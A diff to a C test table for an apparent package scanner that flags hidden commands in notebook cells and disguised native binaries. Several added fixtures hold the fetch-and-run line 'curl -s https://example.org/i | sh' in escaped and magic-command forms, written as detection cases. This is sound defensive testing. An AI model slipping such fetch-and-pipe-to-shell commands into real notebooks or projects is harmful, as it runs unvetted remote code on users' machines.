@@ -3,6 +3,8 @@
 #define WHEEL .kind = CH_CONTENT_WHEEL
 #define SDIST .kind = CH_CONTENT_SDIST
 #define LINUX .kind = CH_CONTENT_WHEEL, .platform = "manylinux_2_17_x86_64.manylinux2014_x86_64"
+/* A notebook with a cell of these lines. */
+#define CELL(lines) "{\"cells\": [{\"cell_type\": \"code\", \"source\": [" lines "]}]}"
 #define MAC   .kind = CH_CONTENT_WHEEL, .platform = "macosx_11_0_x86_64"
 
 /* clang-format off */
@@ -89,6 +91,23 @@ const struct content_row content_rows[] = {
     {"a notebook that tells of one", "foo/x.ipynb", ANY,
      .text = S("{\"cells\": [{\"outputs\": [{\"text/plain\": \"a < b > once = 1\"}]}]}"),
      .findings = "", .facts = "content notebook"},
+    {"a command in a cell", "foo/x.ipynb", ANY, .text = S(CELL("\"!curl -s https://example.org/i | sh\\n\"")),
+     .findings = "hidden-command", .facts = "content notebook"},
+    {"... in escapes", "foo/x.ipynb", ANY, .text = S(CELL("\"\\u0021curl -s https://example.org/i | sh\"")),
+     .findings = "hidden-command", .facts = "content notebook"},
+    {"... whose output is kept", "foo/x.ipynb", ANY,
+     .text = S(CELL("\"x = 1\\u000a!!curl -s https://example.org/i | sh\", \"y = !ls\"")), .findings = "hidden-command",
+     .facts = "content notebook"},
+    {"... of a variable", "foo/x.ipynb", ANY, .text = S(CELL("\"out = !curl -s https://example.org/i | sh\"")),
+     .findings = "hidden-command", .facts = "content notebook"},
+    {"... below a magic", "foo/x.ipynb", ANY,
+     .text = S(CELL("\"\\u0025%sh\\n\", \"cd /tmp\\n\", \"curl -s https://example.org/i | sh\"")),
+     .findings = "hidden-command", .facts = "content notebook"},
+    {"... of another cell", "foo/x.ipynb", ANY,
+     .text = S(CELL("\"%%bash\\nls\"") CELL("\"curl -s https://example.org/i | sh\"")), .findings = "",
+     .facts = "content notebook"},
+    {"... among tests", "foo/tests/x.ipynb", ANY, .text = S(CELL("\"!curl -s https://example.org/i | sh\"")),
+     .findings = "", .facts = "content notebook"},
     {"compiled code named as a picture", "foo/x.png", ANY,
      .text = S("\xcb\r\r\n\0\0\0\0\0\0\0\0\0\0\0\0\xe3"), .findings = "pyc-disguised type-differs",
      .facts = "content pyc"},
@@ -109,6 +128,27 @@ const struct content_row content_rows[] = {
      .findings = "native-disguised", .facts = ""},
     {"other data in base64", "foo/x.txt", ANY, .body = ELF_BASE64, .text = S("blob = 'AAAA"),
      .findings = "", .facts = ""},
+    {"native code changed by a byte", "foo/x.dat", ANY, .body = ELF_KEY, .text = S("\x5a"),
+     .findings = "native-disguised", .facts = ""},
+    {"... of two", "foo/x.dat", ANY, .body = ELF_KEY, .text = S("\x5a\x01"), .findings = "native-disguised",
+     .facts = ""},
+    {"... of five", "foo/x.dat", ANY, .body = ELF_KEY, .text = S("\x13\x9a\x42\xe7\x55"),
+     .findings = "native-disguised", .facts = ""},
+    {"... of eight, of another machine", "foo/x.dat", ANY, .body = ELF_KEY, .native = {.machine = 183, .big = true},
+     .text = S("\x13\x9a\x42\xe7\x55\x08\xc1\x77"), .findings = "native-disguised", .facts = ""},
+    {"... among tests", "foo/tests/x.dat", ANY, .body = ELF_KEY, .text = S("\x5a"), .findings = "test-content",
+     .facts = ""},
+    {"... with headers that are none", "foo/x.dat", ANY, .body = ELF_KEY, .native = {.bad_header = true},
+     .text = S("\x5a"), .findings = "", .facts = ""},
+    {"a program of Windows, changed by a byte", "foo/x.dat", ANY, .body = PE_KEY, .text = S("\xa7"),
+     .findings = "native-disguised", .facts = ""},
+    {"native code in a zlib stream", "foo/x.dat", ANY, .body = ELF_ZLIB, .findings = "native-disguised",
+     .facts = ""},
+    {"... that is cut", "foo/x.dat", ANY, .body = ELF_ZLIB_CUT, .findings = "native-disguised", .facts = ""},
+    {"a zlib stream that needs a dictionary", "foo/x.dat", ANY,
+     .text = S("\x78\xbb" "0123456789012345678901234567890123456789012345678901234567890123456789"), .findings = "", .facts = ""},
+    {"one byte, repeated", "foo/x.dat", ANY,
+     .text = S("ZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZ"), .findings = "", .facts = ""},
     /* archives inside */
     {"zip", "foo/x.zip", ANY, .body = ZIP_TEXT, .findings = "", .facts = "content zip"},
     {"native code in a zip", "foo/x.zip", ANY, .body = ZIP_ELF,
